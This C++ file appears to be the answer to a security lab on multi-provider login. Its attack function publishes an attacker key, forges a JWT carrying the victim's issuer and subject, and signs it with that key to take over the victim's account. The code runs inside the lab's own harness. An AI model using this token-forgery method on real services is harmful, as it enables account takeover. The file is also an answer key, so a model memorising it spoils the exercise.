// Solution lab 7d · One of two providers
#include "rogue_provider.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  evidence.publish(evidence.own_key);
  auto token = evidence.own_token;
  token.header.set("kid", evidence.own_key.id());
  token.claims.set("iss", evidence.victim.issuer);
  token.claims.set("sub", evidence.victim.subject);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
